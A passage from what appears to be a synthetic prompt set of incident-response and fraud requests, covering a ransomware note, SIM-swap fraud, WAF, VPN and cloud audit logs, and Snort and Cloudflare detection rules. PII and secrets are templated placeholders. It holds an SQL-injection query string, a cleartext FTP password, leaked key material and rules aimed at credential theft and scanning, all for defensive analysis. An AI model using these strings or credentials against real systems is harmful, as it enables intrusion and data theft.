  "Delgado, Marisol | SSN [[US_SSN|@@ssn:t033s1@@]] | DOB [[DATE_OF_BIRTH|03/14/1979]] | hygienist | Store 12"
  A second sample (W-2 scan) shows SSN [[US_SSN|@@ssn:t033s2@@]] for a former employee.
- 06-11 17:40 Client CFO (Daniel Okoro, cell [[PHONE|@@phone:t033p1:US:m:national:617@@]]) approved counter-offer authority up to 350k; decision calls go to his cell, not the office line [[PHONE|@@phone:t033p2:US:f:national:617@@]].
- 06-12 09:15 Counter at 300k sent. Actor reply: "price is 1.9, timer 72h".
- 06-12 11:30 Decryptor test: actor decrypted 2 of 3 sample files (.krkn); third (1.1 GB) refused, "too big".
- OFAC screening of the BTC address and the wallet cluster by the vendor: no SDN match (report 2025-06-12-0931).

### h25-034
This note was left on every share. Can you summarise what it tells us about the variant and what we should NOT do? I've removed nothing; there's no contact e-mail, only the portal.

~~~ KRAKENLOCK 3.1 ~~~
>>>> Your data is stolen and encrypted.
If you don't pay the ransom, the data will be published on our TOR darknet sites.
>>>> Links for Tor Browser:
http://@@onion:t034o1@@.onion
http://@@onion:t034o2@@.onion (mirror)
>>>> Your personal DECRYPTION ID: @@uhex:t034id:32@@
>>>> Chat with us: use the ID above at http://@@onion:t034o3@@.onion/chat - do not register with your real e-mail, no e-mail is needed.
>>>> Fallback messenger (only if the portal is down): Tox @@tox:t034tox@@
>>>> Warning! Do not DELETE or MODIFY any files with the .krkn extension, it can lead to recovery problems!
>>>> Warning! If you do not pay in 7 days (168 hours) the price doubles. Test decryption of 2 files up to 5 MB is free.

Sample file header (hexdump of Q2-report.xlsx.krkn, first 48 bytes):
00000000  4b 52 4b 4e 03 01 00 00  @@hex:t034x1:2@@ 9e 2c 71 04 d8 af 13  |KRKN............|
00000010  @@hex:t034x2:2@@ 40 bb 0e 55 a3 19 6c  c2 7d 01 f8 3e 44 90 2b  |.@.U.l.}..>D.+|
00000020  e7 5a 11 08 c3 9f 62 d0  1b 84 77 af 30 ce 05 99  |.Z....b...w.0...|
Footer: RSA-2048 wrapped key blob, 256 bytes, then marker "KRKNEND". Note hash (SHA256): @@hex:t034nh:64@@

### h25-035
Mi serve un riassunto in inglese di queste note per il team antifrode del gruppo (Londra). Non togliere i dati, il riassunto va nel case management interno.

Pratica FR-2025-06-0418 - presunto SIM swap + account takeover home banking
Cliente: Gianfranco Sartori, nato il [[DATE_OF_BIRTH|22/09/1958]], cliente dal 2004, filiale Treviso Centro.
Cellulare registrato: [[PHONE|@@phone:t035p1:IT:m:intl@@]]; e-mail di contatto: [[EMAIL|g.sartori58@libero.it]].
- 13/06 09:41 l'operatore telefonico conferma la sostituzione della SIM alle 08:55 presso un punto vendita di Mestre (il cliente dice di non esserci stato).
- 13/06 09:58 accesso all'app da nuovo dispositivo (Android 14, device id @@hex:t035dev:16@@), IP [[IP_ADDRESS|@@ip:t035a@@]], OTP via SMS al numero sopra.
- 13/06 10:03 modifica e-mail di contatto in [[EMAIL|gsartori.conto@proton.me]] (non riconosciuta dal cliente).
- 13/06 10:07 bonifico istantaneo di 14.900,00 EUR verso [[IBAN|@@iban:t035i1:LT:spaced@@]] (beneficiario "G. Sartori", banca lituana).
- 13/06 10:19 secondo bonifico 9.850,00 EUR verso [[IBAN|@@iban:t035i2:DE@@]].
- 13/06 10:26-10:40 quattro acquisti online con la carta di debito [[CREDIT_CARD|@@card:t035c:visa:spaced@@]] (scad. 08/27) per 3.412,50 EUR totali, MCC 5732 e 6051.
- 13/06 11:12 il cliente chiama dal fisso di casa [[PHONE|@@phone:t035p2:IT:f:national@@]]: carta bloccata, richiamo SEPA inviato per entrambi i bonifici (recall id RCL-0613-77 e RCL-0613-78).
Denuncia presentata ai Carabinieri di Treviso il 13/06 alle 16:30.

### h25-036
Puoi controllare se queste modifiche alle regole antifrode hanno senso? Vorrei ridurre i falsi positivi senza perdere i casi di SIM swap.

Regola R-117 "nuovo dispositivo + bonifico istantaneo"
- prima: alert se bonifico istantaneo > 1.000 EUR entro 60 minuti da registrazione nuovo dispositivo
- proposta: soglia 2.500 EUR, finestra 120 minuti, esclusi beneficiari già presenti in rubrica da > 90 giorni
- impatto stimato su maggio: alert da 4.182 a 1.306 (-68,8%), frodi confermate intercettate da 41 a 39
Regola R-121 "carta: acquisti MCC ad alto rischio dopo cambio contatti"
- MCC monitorati: 4829 (money transfer), 6051 (quasi-cash/crypto), 5732 (elettronica), 7995 (gioco)
- BIN esclusi (carte aziendali): 453275, 516732, 552188
- esempio di alert del 02/06 sulla carta 4532 75** **** 1180: 3 acquisti MCC 5732 per 2.210,00 EUR, chiuso come falso positivo (cliente in viaggio, contatti invariati)
Regola R-130 "cambio e-mail + cambio numero entro 24 h"
- invariata; 212 alert a maggio, 17 frodi confermate (precisione 8,0%)

Codici motivo chiusura: FP-01 cliente conferma, FP-02 whitelist, TP-01 frode confermata, TP-02 tentativo bloccato. Versione motore regole 5.14.2, deploy previsto il 24/06 alle 22:00, ticket CHG-2025-0619.

### h25-037
Please draft the narrative section of a SAR from this alert. US bank, FinCEN format; keep it factual and chronological.

ALERT TM-2025-0612-00417 | Scenario: Structuring - cash deposits below CTR threshold + rapid outbound wires | Score 87
Customer: Walter J. Brandt | DOB [[DATE_OF_BIRTH|07/02/1971]] | SSN [[US_SSN|@@ssn:t037s@@]] | customer since 2019 | occupation: "consultant (self-employed)"
Contact: [[PHONE|@@phone:t037p:US:m:national:305@@]] | [[EMAIL|wjbrandt.consulting@gmail.com]] | online banking logins from [[IP_ADDRESS|@@ip:t037a@@]] (residential ISP, Miami) and [[IP_ADDRESS|@@ip:t037b@@]] (hosting provider, NL)
Account: checking ending 4471 (opened 2019-03-11)
Activity 05/12 - 06/10:
- 19 cash deposits at 6 branches, each between $8,500 and $9,900, total $176,350
- 7 outbound international wires totalling $171,200:
  05/16 $24,800 to [[IBAN|@@iban:t037i1:NL@@]] (Velmora Trading B.V., Rotterdam)
  05/23 $26,100 to [[IBAN|@@iban:t037i1:NL@@]]
  05/30 $24,950 to [[IBAN|@@iban:t037i2:GB@@]] (Harcastle Imports Ltd, London)
  06/02 - 06/10 four wires to the same two beneficiaries
- Wire purpose fields: "consulting services", "invoice 2025-114", "invoice 2025-119"
Prior alerts: none. 314(a) match: none. Negative news: none found. RM note: customer said the cash comes from "classic car sales", no documentation provided.

### h25-038
Can you review our scenario tuning memo for the structuring rule? I want to make sure the thresholds and lookbacks are defensible for the examiners.

Scenario TM-STR-02 "Structuring below CTR threshold"
Regulatory basis: 31 CFR 1010.311 (CTR over $10,000), 31 U.S.C. 5324 (structuring); SAR within 30 calendar days of initial detection (31 CFR 1020.320), extendable to 60 if no suspect identified.
Current parameters (v4.2, effective 2024-10-01):
  cash_txn_min = 3,000 | cash_txn_max = 9,999.99 | lookback_days = 30 | min_txn_count = 4 | min_aggregate = 25,000
Proposed (v4.3):
  cash_txn_min = 5,000 | lookback_days = 45 | min_txn_count = 5 | min_aggregate = 30,000 | exclude NAICS 722511, 445110 (cash-intensive, documented)
Below-the-line testing (Jan-Mar 2025 sample, 1,200 customers): v4.2 generated 3,418 alerts, 52 SARs (1.5%); v4.3 would have generated 1,907 alerts and captured 50 of the 52 SAR subjects. The 2 missed cases (alert ids TM-2025-0117-00093 and TM-2025-0302-00218) had aggregates of $27,400 and $28,900.
Model risk: validation ref MRM-2025-031, challenger model AUC 0.81 vs 0.77. Data lineage: core banking extract CB_TXN_DAILY, 14:30 ET cut-off, row count checks 99.98% match.

### h25-039
Kun je deze FortiGate-logregels van vannacht bekijken? Ik zie veel mislukte SSL-VPN-logins en daarna één geslaagde. Moet ik het account blokkeren en wat betekent "reason=sslvpn_login_permission_denied"?

date=2025-06-15 time=02:11:47 devname="FGT-VLK-HQ" devid="FG100FTK22091188" logid="0101039426" type="event" subtype="vpn" level="alert" vd="root" logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" remip=[[IP_ADDRESS|@@ip:t039a@@]] user="[[EMAIL|r.dekker@valkenburg-bouw.nl]]" group="N/A" reason="sslvpn_login_permission_denied" msg="SSL user failed to logged in"
date=2025-06-15 time=02:11:52 devname="FGT-VLK-HQ" logid="0101039426" type="event" subtype="vpn" action="ssl-login-fail" remip=[[IP_ADDRESS|@@ip:t039a@@]] user="admin" reason="sslvpn_login_unknown_user"
date=2025-06-15 time=02:13:05 devname="FGT-VLK-HQ" logid="0101039426" type="event" subtype="vpn" action="ssl-login-fail" remip=[[IP_ADDRESS|@@ip:t039b@@]] user="[[EMAIL|boekhouding@valkenburg-bouw.nl]]" reason="sslvpn_login_permission_denied"
date=2025-06-15 time=02:19:40 devname="FGT-VLK-HQ" logid="0101039947" type="event" subtype="vpn" action="tunnel-up" tunneltype="ssl-tunnel" remip=[[IP_ADDRESS|@@ip:t039b@@]] tunnelip=[[IP_ADDRESS|10.212.134.200]] user="[[EMAIL|j.vanderlinde@valkenburg-bouw.nl]]" group="VPN-Users" msg="SSL tunnel established"
date=2025-06-15 time=02:21:03 devname="FGT-VLK-HQ" logid="0000000013" type="traffic" subtype="forward" srcip=[[IP_ADDRESS|10.212.134.200]] srcport=51220 dstip=[[IP_ADDRESS|10.50.2.10]] dstport=445 proto=6 action="accept" policyid=14 service="SMB" sentbyte=18422 rcvdbyte=4093311 duration=95

Jeroen van der Linde zit volgens HR deze week in Portugal op vakantie. Het bronadres van de geslaagde login hoort bij een VPS-aanbieder, niet bij een Portugese provider.

### h25-040
Ik wil de SSL-VPN op onze FortiGate dichtzetten voor landen buiten de EU en alleen MFA-gebruikers toelaten. Klopt deze configuratie, en waarom staat het pre-shared key-veld er versleuteld in?

FGT-VLK-HQ # get system status
Version: FortiGate-100F v7.2.8,build1639,240313 (GA.M)
Serial-Number: FG100FTK22091188
Current HA mode: standalone

config firewall address
    edit "VPN-Pool"
        set type ipmask
        set subnet 10.212.134.192 255.255.255.192
    next
    edit "LAN-Servers"
        set subnet 10.50.2.0 255.255.255.0
    next
end
config firewall geoaddress
    edit "geo-NL"
        set country "NL"
    next
end
config vpn ssl settings
    set servercert "vpn-valkenburg-2025"
    set tunnel-ip-pools "VPN-Pool"
    set source-address "geo-NL" "geo-BE" "geo-DE"
    set source-interface "wan1"
    set port 10443
    set login-attempt-limit 3
    set login-block-time 300
end
config vpn ipsec phase1-interface
    edit "to-DC-Breda"
        set interface "wan1"
        set type ddns
        set remotegw-ddns "dc-breda.valkenburg-bouw.nl"
        set proposal aes256-sha256
        set dhgrp 20
        set psksecret ENC @@b64:t040enc:96@@
    next
end
config user group
    edit "VPN-Users"
        set member "LDAP-VLK"
        config match
            edit 1
                set server-name "LDAP-VLK"
                set group-name "CN=VPN-MFA,OU=Groups,DC=valkenburg,DC=local"
            next
        end
    next
end

De tunnelpool is 10.212.134.192/26, het serversegment 10.50.2.0/24 (netmasker 255.255.255.0). FortiOS-advies FG-IR-24-015 (CVE-2024-21762) is op build 1639 al verholpen.

### h25-041
AWS WAF blocked this as SQLi but the client says it was a real customer. The log has the customer's bearer token in it, so I know who it is; can you tell whether the request itself is malicious or whether the managed rule over-matched?

{"timestamp":1749988813204,"formatVersion":1,"webaclId":"arn:aws:wafv2:eu-central-1:291844017733:regional/webacl/shop-prod-acl/@@uuid:t041acl@@","terminatingRuleId":"AWS-AWSManagedRulesSQLiRuleSet","terminatingRuleType":"MANAGED_RULE_GROUP","action":"BLOCK","terminatingRuleMatchDetails":[{"conditionType":"SQL_INJECTION","sensitivityLevel":"LOW","location":"QUERY_STRING","matchedData":["'","OR","1","="]}],"httpSourceName":"ALB","httpSourceId":"291844017733-app/shop-prod-alb/@@hex:t041alb:16@@","ruleGroupList":[{"ruleGroupId":"AWS#AWSManagedRulesSQLiRuleSet#Version_2.0","terminatingRule":{"ruleId":"SQLi_QUERYARGUMENTS","action":"BLOCK"}}],"rateBasedRuleList":[],"nonTerminatingMatchingRules":[],"httpRequest":{"clientIp":"[[IP_ADDRESS|@@ip:t041a@@]]","country":"AT","headers":[{"name":"host","value":"shop.almrausch-outdoor.at"},{"name":"authorization","value":"Bearer [[JWT|@@jwt:t041j:RS256@@]]"},{"name":"cookie","value":"ar_session=[[SECRET|@@alnum:t041s:40@@]]; _fbp=fb.1.1749810021554.1183420955; cookieconsent_status=dismiss"},{"name":"x-forwarded-for","value":"[[IP_ADDRESS|@@ip:t041a@@]], [[IP_ADDRESS|@@ip:t041b@@]]"},{"name":"user-agent","value":"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"}],"uri":"/api/catalog/search","args":"q=Jack%27s%20OR%201%3D1%20trail%20shoe&size=42","httpVersion":"HTTP/2.0","httpMethod":"GET","requestId":"1-@@hex:t041rq1:8@@-@@hex:t041rq2:24@@"},"ja3Fingerprint":"@@hex:t041ja3:32@@"}

Her search string was literally "Jack's OR 1=1 trail shoe"? That seems odd for a shopper, but the JWT's sub matches customer 58211094.

### h25-042
Review request for our WAF module. Does the rule order make sense, and will the rate-based rule count per client IP even behind CloudFront?

{
  "Name": "shop-prod-acl",
  "Scope": "REGIONAL",
  "DefaultAction": {"Allow": {}},
  "Rules": [
    {"Name": "allow-partner-ranges", "Priority": 0, "Action": {"Allow": {}},
     "Statement": {"IPSetReferenceStatement": {"ARN": "arn:aws:wafv2:eu-central-1:291844017733:regional/ipset/partner-ranges/@@uuid:t042ips@@"}}},
    {"Name": "rate-limit-login", "Priority": 1, "Action": {"Block": {"CustomResponse": {"ResponseCode": 429}}},
     "Statement": {"RateBasedStatement": {"Limit": 300, "EvaluationWindowSec": 300, "AggregateKeyType": "FORWARDED_IP",
       "ForwardedIPConfig": {"HeaderName": "X-Forwarded-For", "FallbackBehavior": "MATCH"},
       "ScopeDownStatement": {"ByteMatchStatement": {"FieldToMatch": {"UriPath": {}}, "PositionalConstraint": "STARTS_WITH", "SearchString": "/api/auth/", "TextTransformations": [{"Priority": 0, "Type": "LOWERCASE"}]}}}}},
    {"Name": "AWS-AWSManagedRulesSQLiRuleSet", "Priority": 2, "OverrideAction": {"None": {}},
     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesSQLiRuleSet", "Version": "Version_2.0",
       "RuleActionOverrides": [{"Name": "SQLi_QUERYARGUMENTS", "ActionToUse": {"Count": {}}}]}}}
  ],
  "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "shop-prod-acl"}
}
IPSet partner-ranges: {"IPAddressVersion": "IPV4", "Addresses": ["91.208.52.0/24", "185.71.64.0/22"]}

The terratest fixture sends 400 requests with X-Forwarded-For: 203.0.113.10 (RFC 5737 documentation address) and expects 429 after the 300th; it gets 429 only after ~340. WAF metric period is 60 s, Terraform AWS provider 5.54.1.

### h25-043
Cloudflare Logpush (http_requests) from our support portal. Two things worry me: the reset link token is visible in ClientRequestURI, and there's a burst of logins from IPv6 addresses of one hosting ASN. How bad is the first one, and what rule would you write for the second?

{"RayID":"@@hex:t043r1:16@@","EdgeStartTimestamp":"2025-06-16T08:14:22Z","ClientIP":"[[IP_ADDRESS|@@ip:t043a@@]]","ClientCountry":"ie","ClientASN":5466,"ClientRequestHost":"help.corrib-energy.ie","ClientRequestMethod":"GET","ClientRequestURI":"/account/reset-password?uid=118204&token=[[SECRET|@@urlsafe:t043tok:48@@]]","EdgeResponseStatus":200,"OriginResponseStatus":200,"SecurityAction":"","BotScore":94,"JA3Hash":"@@hex:t043ja3a:32@@","ClientRequestUserAgent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"}
{"RayID":"@@hex:t043r2:16@@","EdgeStartTimestamp":"2025-06-16T08:14:25Z","ClientIP":"[[IP_ADDRESS|@@ip6:t043b@@]]","ClientCountry":"us","ClientASN":63949,"ClientRequestHost":"help.corrib-energy.ie","ClientRequestMethod":"POST","ClientRequestURI":"/api/login","EdgeResponseStatus":403,"SecurityAction":"block","SecurityRuleID":"@@hex:t043rule:32@@","SecurityRuleDescription":"Credential stuffing - leaked credential check","BotScore":2,"JA3Hash":"@@hex:t043ja3b:32@@"}
{"RayID":"@@hex:t043r3:16@@","EdgeStartTimestamp":"2025-06-16T08:14:25Z","ClientIP":"[[IP_ADDRESS|@@ip6:t043c@@]]","ClientCountry":"us","ClientASN":63949,"ClientRequestHost":"help.corrib-energy.ie","ClientRequestMethod":"POST","ClientRequestURI":"/api/login","EdgeResponseStatus":403,"SecurityAction":"block","BotScore":1,"JA3Hash":"@@hex:t043ja3b:32@@"}
... 2,914 more like the last two in 6 minutes, all ClientASN 63949, same JA3 ...
{"RayID":"@@hex:t043r4:16@@","EdgeStartTimestamp":"2025-06-16T08:21:40Z","ClientIP":"[[IP_ADDRESS|@@ip:t043d@@]]","ClientCountry":"ie","ClientRequestURI":"/account/reset-password?uid=118204&token=[[SECRET|@@urlsafe:t043tok:48@@]]","EdgeResponseStatus":200,"Referer":"https://outlook.live.com/"}

The second GET of the reset link comes from a different country than... actually both are IE, but different ISPs. Token lifetime in our app is 24 h and it is not invalidated after first use.

### h25-044
I'm migrating our old Cloudflare firewall rules to custom rules. Can you check the expressions for mistakes and tell me whether the ASN block is too broad?

Rule 1 (Block) - id @@hex:t044id1:32@@
(http.request.uri.path contains "/wp-login.php" or http.request.uri.path contains "/xmlrpc.php") and not ip.src in $office_ranges
Rule 2 (Managed Challenge) - id @@hex:t044id2:32@@
(ip.geoip.asnum in {14061 16276 24940 63949} and cf.bot_management.score lt 30 and not cf.bot_management.verified_bot)
Rule 3 (Block) - id @@hex:t044id3:32@@
(cf.bot_management.ja3_hash in {"@@hex:t044ja3a:32@@" "@@hex:t044ja3b:32@@"})
Rule 4 (Skip: all remaining custom rules) - id @@hex:t044id4:32@@
(ip.src in {198.51.100.0/24 2001:db8:4400::/40} and http.request.uri.path matches "^/api/webhooks/(stripe|adyen)$")

List $office_ranges: 80.233.128.0/19, 2a02:8084:4000::/36 (Dublin office, two ISPs)
Firewall events last 24 h: Rule 1 - 18,204 blocks; Rule 2 - 9,377 challenges (solve rate 0.6%); Rule 3 - 2,915 blocks; Rule 4 - 311 skips.
Sample Ray IDs for rule 2: @@hex:t044ray1:16@@-DUB, @@hex:t044ray2:16@@-LHR.
Note: rule 4's ranges are placeholders from the vendor docs; we still need the real webhook source ranges from Stripe and Adyen before go-live (ticket NET-2291).

### h25-045
Snort fired on the OT DMZ and I grabbed the packets. Can you confirm this is a cleartext FTP login from the historian to the backup box, and is the "SSH scan" alert related?

06/14-03:22:11.418223  [**] [1:2001219:20] ET SCAN Potential SSH Scan [**] [Classification: Attempted Information Leak] [Priority: 2] {TCP} [[IP_ADDRESS|@@ip:t045a@@]]:41872 -> [[IP_ADDRESS|10.70.1.20]]:22
06/14-03:22:14.902771  [**] [1:2001219:20] ET SCAN Potential SSH Scan [**] [Classification: Attempted Information Leak] [Priority: 2] {TCP} [[IP_ADDRESS|@@ip:t045a@@]]:41890 -> [[IP_ADDRESS|10.70.1.21]]:22
06/14-03:40:02.113804  [**] [1:2002383:15] ET POLICY FTP Login Successful [**] [Classification: Misc activity] [Priority: 3] {TCP} [[IP_ADDRESS|10.70.1.21]]:21 -> [[IP_ADDRESS|10.70.2.45]]:50122

# tcpdump -nn -A -r ot-dmz-0614.pcap 'tcp port 21' | grep -E "USER|PASS|230|STOR"
03:40:01.982210 IP [[IP_ADDRESS|10.70.2.45]].50122 > [[IP_ADDRESS|10.70.1.21]].21: Flags [P.], seq 1:17, ack 37, win 502, length 16: FTP: USER histbackup
03:40:02.004117 IP [[IP_ADDRESS|10.70.2.45]].50122 > [[IP_ADDRESS|10.70.1.21]].21: Flags [P.], seq 17:38, ack 71, win 502, length 21: FTP: PASS [[SECRET|H1st0rian-Bkp!24]]
03:40:02.113791 IP [[IP_ADDRESS|10.70.1.21]].21 > [[IP_ADDRESS|10.70.2.45]].50122: Flags [P.], seq 71:94, ack 38, win 509, length 23: FTP: 230 Login successful.
03:40:02.530448 IP [[IP_ADDRESS|10.70.2.45]].50122 > [[IP_ADDRESS|10.70.1.21]].21: Flags [P.], seq 38:70, ack 94, win 502, length 32: FTP: STOR hist_20250614_0340.bak

Snort 2.9.20 GRE (Build 82), ET Open ruleset 10634. The scanning source is not in our asset list.

### h25-046
I'm moving our local rules from Snort 2 to Snort 3. snort -T passes but two rules never fire in the replay. Can you see why?

local.rules
alert tcp $EXTERNAL_NET any -> $HOME_NET 502 (msg:"LOCAL OT Modbus write multiple registers from outside"; flow:to_server,established; content:"|00 00|"; offset:2; depth:2; content:"|10|"; offset:7; depth:1; classtype:attempted-admin; sid:1000401; rev:3;)
alert tcp $HOME_NET any -> $EXTERNAL_NET 21 (msg:"LOCAL POLICY FTP PASS outbound"; flow:to_server,established; content:"PASS "; nocase; depth:5; classtype:policy-violation; sid:1000402; rev:1;)
alert udp any any -> $HOME_NET 161 (msg:"LOCAL SNMP default community"; content:"|04 06|public"; classtype:attempted-recon; sid:1000403; rev:2;)
alert http $HOME_NET any -> any any (msg:"LOCAL suspicious UA"; http_header; content:"User-Agent|3a 20|python-requests/"; pcre:"/python-requests\/2\.(2[0-9]|3[0-2])\./"; sid:1000404; rev:1;)

$ snort -T -c /etc/snort/snort.lua -R local.rules
--------------------------------------------------
o")~   Snort++ 3.1.84.0
--------------------------------------------------
Loading /etc/snort/snort.lua:
	HOME_NET = 10.70.0.0/16
	EXTERNAL_NET = !$HOME_NET
rule counts
       total rules loaded: 4
               text rules: 4
            option chains: 4
            chain headers: 3
port rule counts
             tcp     udp    icmp     ip
     any       0       1       0      0
     dst       2       1       0      0
   total       2       1       0      0
fast pattern groups
                      src: 1
                      dst: 3
Snort successfully validated the configuration (with 0 warnings).
o")~   Snort exiting

Replay: tcpreplay -i veth1 --mbps 50 ot-lab-0612.pcap (118,402 packets, 1 flow to 502/tcp, 3 flows to 21/tcp, SHA256 of pcap @@hex:t046pcap:64@@).

### h25-047
GCP alert: "Service account key created outside Terraform". The audit entry is below, and an hour later our secret scanner found a key file for the same account on a public paste site. Is it the same key, and what else should I check?

{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","status":{},"authenticationInfo":{"principalEmail":"[[EMAIL|t.nakashima@brackenridge-labs.com]]","principalSubject":"user:[[EMAIL|t.nakashima@brackenridge-labs.com]]"},"requestMetadata":{"callerIp":"[[IP_ADDRESS|@@ip:t047a@@]]","callerSuppliedUserAgent":"google-cloud-sdk gcloud/478.0.0 command/gcloud.iam.service-accounts.keys.create invocation-id/@@hex:t047inv:32@@ environment/None environment-version/None client-os/LINUX client-os-ver/6.8.0 client-pltf-arch/x86_64 interactive/True from-script/False python/3.11.8 term/xterm-256color (Linux 6.8.0-35-generic),gzip(gfe)"},"serviceName":"iam.googleapis.com","methodName":"google.iam.admin.v1.CreateServiceAccountKey","resourceName":"projects/-/serviceAccounts/1047733@@digits:t047uid:14@@","response":{"name":"projects/brk-data-prod/serviceAccounts/[[EMAIL|etl-runner@brk-data-prod.iam.gserviceaccount.com]]/keys/@@hex:t047kid:40@@","valid_after_time":{"seconds":"1750067288"},"valid_before_time":{"seconds":"253402300799"},"key_algorithm":"KEY_ALG_RSA_2048","key_origin":"GOOGLE_PROVIDED","key_type":"USER_MANAGED"}},"insertId":"@@lower:t047ins:12@@","resource":{"type":"service_account","labels":{"project_id":"brk-data-prod","email_id":"[[EMAIL|etl-runner@brk-data-prod.iam.gserviceaccount.com]]"}},"timestamp":"2025-06-16T09:48:08.114Z","severity":"NOTICE","logName":"projects/brk-data-prod/logs/cloudaudit.googleapis.com%2Factivity"}

Paste (found 10:51 UTC):
{
  "type": "service_account",
  "project_id": "brk-data-prod",
  "private_key_id": "@@hex:t047kid:40@@",
  "private_key": "[[SECRET|@@pemjson:t047pk@@]]\n",
  "client_email": "[[EMAIL|etl-runner@brk-data-prod.iam.gserviceaccount.com]]",
  "client_id": "1047733@@digits:t047cid:14@@",
  "auth_uri": "https://accounts.google.com/o/oauth2/auth",
  "token_uri": "https://oauth2.googleapis.com/token"
}

### h25-048
Can you explain what this log sink and its exclusion do, and whether our "admin activity" export is complete? Output of the describe and a sample read is below.

$ gcloud logging sinks describe org-audit-to-bq --organization=801144562203
createTime: '2024-02-11T10:04:51.118204Z'
destination: bigquery.googleapis.com/projects/brk-sec-logging/datasets/org_audit
exclusions:
- description: drop GKE node heartbeat noise
  filter: resource.type="k8s_node" AND protoPayload.methodName="io.k8s.core.v1.nodes.status.patch"
  name: gke-heartbeat
filter: logName:"cloudaudit.googleapis.com" AND NOT protoPayload.methodName:"storage.objects.get"
includeChildren: true
name: org-audit-to-bq
writerIdentity: serviceAccount:[generated by Google, shown in console]
bigqueryOptions:
  usePartitionedTables: true

$ gcloud logging read 'logName:"cloudaudit.googleapis.com%2Factivity" AND resource.type="gce_instance"' --project=brk-data-prod --limit=5 --format="table(timestamp, protoPayload.methodName, resource.labels.instance_id, severity)"
TIMESTAMP                    METHOD_NAME                                  INSTANCE_ID          SEVERITY
2025-06-16T04:00:12.771Z     v1.compute.instances.insert                  @@digits:t048i1:19@@  NOTICE
2025-06-16T04:00:13.902Z     v1.compute.instances.setMetadata             @@digits:t048i1:19@@  NOTICE
2025-06-16T04:31:40.018Z     v1.compute.instances.stop                    @@digits:t048i2:19@@  NOTICE
2025-06-16T05:02:55.447Z     compute.instances.preempted                  @@digits:t048i3:19@@  INFO
2025-06-16T05:02:55.903Z     v1.compute.instances.delete                  @@digits:t048i3:19@@  NOTICE

Project number 622091783345, org id 801144562203, BigQuery dataset location EU, table partition expiry 400 days. The query cost for last month was 1.84 TB scanned.

### h25-049
Azure: Defender for Cloud alerted on "Unusual listKeys operation" and shortly after we saw blob reads from a new IP. A runbook in the same subscription had the storage key in clear text. Can you reconstruct what happened and list what must be rotated?

Activity log (trimmed):
{"time":"2025-06-15T19:02:44.1182071Z","operationName":{"value":"Microsoft.Storage/storageAccounts/listKeys/action"},"status":{"value":"Succeeded"},"caller":"[[EMAIL|k.wojcik@fernhill-insurance.co.uk]]","claims":{"ipaddr":"[[IP_ADDRESS|@@ip:t049a@@]]","name":"Kasia Wojcik","http://schemas.microsoft.com/identity/claims/objectidentifier":"@@uuid:t049oid@@"},"correlationId":"@@uuid:t049corr@@","resourceId":"/subscriptions/@@uuid:t049sub@@/resourceGroups/rg-claims-prod/providers/Microsoft.Storage/storageAccounts/stclaimsprod01","level":"Informational"}
{"time":"2025-06-15T19:05:10.0044913Z","operationName":{"value":"Microsoft.Automation/automationAccounts/runbooks/draft/write"},"caller":"[[EMAIL|k.wojcik@fernhill-insurance.co.uk]]","claims":{"ipaddr":"[[IP_ADDRESS|@@ip:t049a@@]]"},"correlationId":"@@uuid:t049corr2@@"}

StorageBlobLogs: 19:11-19:48, 4,118 GetBlob requests to container "claims-attachments" from CallerIpAddress [[IP_ADDRESS|@@ip:t049b@@]]:50334, AuthenticationType AccountKey, UserAgentHeader "azsdk-python-storage-blob/12.19.1".

Runbook "Export-ClaimsArchive" (draft saved at 19:05):
$conn = "DefaultEndpointsProtocol=https;AccountName=stclaimsprod01;AccountKey=[[SECRET|@@b64:t049key:64@@]];EndpointSuffix=core.windows.net"
$sasUrl = "https://stclaimsprod01.blob.core.windows.net/claims-attachments?sv=2022-11-02&ss=b&srt=co&sp=rl&se=2025-12-31T23:59:59Z&st=2025-06-15T00:00:00Z&spr=https&sig=[[SECRET|@@alnum:t049sig:43@@%3D]]"

Kasia says she never opened the Automation account.

### h25-050
Defender for Cloud recommended "Role assignments with Owner/Contributor at subscription scope should be reviewed". This entry is from our pipeline's service principal. Is it expected for a Terraform deployment, and how would I scope it down?

{"time":"2025-06-14T06:12:03.5510042Z","resourceId":"/subscriptions/@@uuid:t050sub@@/providers/Microsoft.Authorization/roleAssignments/@@uuid:t050ra@@","operationName":{"value":"Microsoft.Authorization/roleAssignments/write","localizedValue":"Create role assignment"},"category":{"value":"Administrative"},"status":{"value":"Succeeded"},"caller":"@@uuid:t050caller@@","claims":{"appid":"@@uuid:t050app@@","idtyp":"app","http://schemas.microsoft.com/identity/claims/tenantid":"@@uuid:t050tid@@"},"correlationId":"@@uuid:t050corr@@","properties":{"requestbody":"{\"Id\":\"@@uuid:t050ra@@\",\"Properties\":{\"PrincipalId\":\"@@uuid:t050pid@@\",\"PrincipalType\":\"ServicePrincipal\",\"RoleDefinitionId\":\"/subscriptions/@@uuid:t050sub@@/providers/Microsoft.Authorization/roleDefinitions/b24988ac-6180-42a0-ab88-20f7382dd24c\",\"Scope\":\"/subscriptions/@@uuid:t050sub@@/resourceGroups/rg-claims-prod\"}}","eventCategory":"Administrative","entity":"/subscriptions/@@uuid:t050sub@@/resourceGroups/rg-claims-prod","message":"Microsoft.Authorization/roleAssignments/write","hierarchy":"@@uuid:t050tid@@/mg-prod/@@uuid:t050sub@@"}}

Role definition b24988ac-6180-42a0-ab88-20f7382dd24c is the built-in Contributor. The pipeline runs in Azure DevOps (service connection "sc-claims-prod", federated credential, no client secret), azurerm provider 3.108.0, state in stterraformstate01 with the key vault reference kv-tfstate/tfstate-access-key (secret value not stored in the pipeline).

### h25-051
Two Elastic Security alerts from the same jump host, 20 minutes apart. I think an admin is just doing a manual backup, but the rules say "credential in command line". Can you assess both, and tell me what to ask the admin?

